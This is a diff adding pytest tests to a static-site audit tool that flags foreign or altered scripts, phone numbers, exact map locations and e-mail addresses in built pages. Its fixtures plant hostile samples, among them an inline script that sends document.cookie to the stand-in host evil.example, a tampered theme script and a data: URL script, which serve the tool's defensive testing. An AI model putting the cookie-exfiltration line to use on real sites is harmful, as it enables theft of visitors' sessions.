@@ -23,6 +23,14 @@ def planted_site(tmp_path: Path) -> Path:
         '<script src="https://cdn.example.org/x.js"></script><img srcset="//evil.example/p.png 1x">'
         "<p>write to someone@example.org</p>"
         '<iframe src="maps/locator.html#lat=1.234&amp;lon=36.82"></iframe>'
+        "<script>fetch('https://evil.example/?'+document.cookie)</script>"
+        '<script src="../outside.js"></script>'
+    )
+    (site / "initiatives").mkdir()
+    (site / "initiatives" / "x.html").write_text(
+        "<p>Call us on 0712&nbsp;345&nbsp;678.</p>"
+        '<a href="https://www.google.com/maps/@-1.2921,36.8219,17z">the office</a>'
+        '<script id="__config" type="application/json">{"base": ".."}</script>'
     )
     (site / "style.css").write_text("body{background:url('https://fonts.example.org/f.woff')}")
     item = {"id": "x", "url": "initiatives/x.html", "lat": 1.234, "lon": 2.5, "email": "e"}
@@ -44,6 +52,10 @@ def test_the_audit_finds_every_planted_problem(tmp_path: Path) -> None:
         ("index.html", "<script src> loads from another server"),
         ("index.html", "a map point has more than 2 decimals"),
         ("index.html", "contains an e-mail address"),
+        ("index.html", "<script src> is not one of the site's own scripts"),
+        ("index.html", "an inline <script> is not one of the theme's own"),
+        ("initiatives/x.html", "contains what looks like a phone number"),
+        ("initiatives/x.html", "contains an exact location"),
         ("photo.jpg", "picture carries metadata"),
         ("style.css", "stylesheet loads from another server"),
     }
@@ -71,3 +83,105 @@ def test_malformed_map_data_is_a_finding_that_names_the_file(
     assert out.startswith(f"{urls.MAP_DATA}: the map data cannot be read")
     assert "choose another name" not in out
     assert out.endswith("1 files audited, 1 findings\n")
+
+
+def page_with_theme_script(root: str) -> str:
+    """mkdocs-material's preferences script as it is written on a page `root` away from the
+    site's root."""
+    return (
+        f'<script>__md_scope=new URL("{root}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e'
+        "+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pa"
+        'thname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+".'
+        '"+e,JSON.stringify(_))}catch(e){}}</script>'
+    )
+
+
+@pytest.mark.parametrize(
+    ("page", "root"),
+    [("index.html", "."), ("a/b.html", ".."), ("a/b/c.html", "../.."), ("404.html", "/")],
+)
+def test_the_theme_scripts_pass_at_every_depth(tmp_path: Path, page: str, root: str) -> None:
+    site = tmp_path / "site"
+    (site / page).parent.mkdir(parents=True, exist_ok=True)
+    (site / page).write_text(page_with_theme_script(root))
+    assert audit_site(site) == []
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        ("new URL(", "fetch('https://evil.example/'+document.cookie),new URL("),
+        ('URL("..",', 'URL("https://evil.example",'),
+        ("catch(e){}", "catch(e){alert(1)}"),
+    ],
+)
+def test_a_changed_theme_script_is_a_finding(tmp_path: Path, changed: tuple[str, str]) -> None:
+    site = tmp_path / "site"
+    (site / "a").mkdir(parents=True)
+    (site / "a" / "b.html").write_text(page_with_theme_script("..").replace(*changed, 1))
+    assert [f.message[:48] for f in audit_site(site)] == [
+        "an inline <script> is not one of the theme's own"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("page", "source", "found"),
+    [
+        ("maps/world.html", "../assets/atlas/atlas-map.js", False),
+        ("404.html", "/assets/javascripts/bundle.js", False),
+        ("index.html", "assets/vendor/leaflet/leaflet.js?v=1", False),
+        ("fr/categories/health.html", "../assets/javascripts/bundle.js", False),
+        ("index.html", "assets/atlas/missing.js", True),
+        ("index.html", "../assets/atlas/atlas-map.js", True),
+        ("index.html", "initiatives/x.js", True),
+        ("a/b.html", "../../../etc/x.js", True),
+        ("index.html", "//evil.example/x.js", True),
+        ("index.html", "data:text/javascript,alert(1)", True),
+    ],
+)
+def test_scripts_come_from_the_site_s_own_assets(
+    tmp_path: Path, page: str, source: str, found: bool
+) -> None:
+    site = tmp_path / "site"
+    assets = ["assets/atlas/atlas-map.js", "assets/javascripts/bundle.js"]
+    assets += ["assets/vendor/leaflet/leaflet.js", "fr/assets/javascripts/bundle.js"]
+    for asset in assets:
+        (site / asset).parent.mkdir(parents=True, exist_ok=True)
+        (site / asset).write_text("")
+    (site / page).parent.mkdir(parents=True, exist_ok=True)
+    (site / page).write_text(f'<script src="{source}"></script>')
+    messages = [f.message for f in audit_site(site) if "site's own scripts" in f.message]
+    assert bool(messages) is found
+
+
+def test_data_files_are_read_as_json_so_escapes_hide_nothing(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    (site / "search").mkdir(parents=True)
+    (site / "search" / "search_index.js").write_text(
+        'var __index = {"docs":[{"text":"\\u0438 2019 write to keepers\\u0040example.org"}]}'
+    )
+    (site / "search" / "search_index.json").write_text('{"docs":[{"text":"\\u0438 1 250 000"}]}')
+    findings = audit_site(site)
+    assert [(f.file, f.message) for f in findings] == [
+        ("search/search_index.js", "contains an e-mail address: keepers@example.org")
+    ]
+
+
+def test_the_404_page_names_scripts_from_the_site_s_own_path(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    (site / "assets" / "javascripts").mkdir(parents=True)
+    (site / "assets" / "javascripts" / "bundle.js").write_text("")
+    (site / "index.html").write_text(
+        '<link rel="canonical" href="https://example.github.io/atlas/index.html">'
+    )
+    (site / "404.html").write_text(
+        '<script src="/atlas/assets/javascripts/bundle.js"></script>'
+        + page_with_theme_script("/atlas/")
+    )
+    (site / "fr").mkdir()
+    (site / "fr" / "404.html").write_text(
+        '<script src="/other-site/assets/javascripts/bundle.js"></script>'
+    )
+    assert [(f.file, f.message.split(":")[0]) for f in audit_site(site)] == [
+        ("fr/404.html", "<script src> is not one of the site's own scripts")
+    ]
